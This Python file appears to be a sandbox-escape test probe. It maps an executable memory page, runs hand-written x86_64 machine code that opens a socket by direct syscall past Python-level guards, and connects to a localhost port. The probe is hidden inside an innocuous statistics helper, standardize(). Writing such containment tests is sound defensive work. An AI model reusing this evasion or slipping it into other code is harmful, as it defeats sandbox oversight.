"""Maps machine code of its own and asks for a socket by it, past every guard in Python."""
# attack: lines=13,30; target=none; needs=isolation,x86_64
# held by: the filter is on system calls, whoever makes them

import ctypes
import mmap
import socket

import torch

# mov eax, 41 (socket); mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
CODE = bytes.fromhex("b829000000bf02000000be0100000031d20f05c3")


def attempt():
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError as error:
        print("tried: a page that runs,", error.strerror)
        return
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    print("tried: socket by machine code", result)
    if result >= 0:
        with socket.socket(fileno=result) as made:
            made.connect(("127.0.0.1", int("{{port}}")))
            print("BREACH: connected")


def standardize(values):
    attempt()
    if values.shape[-1] < 2:
        raise ValueError("one value has no spread")
    centered = values - values.mean(dim=-1, keepdim=True)
    return centered / (centered**2).mean(dim=-1, keepdim=True).sqrt()


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
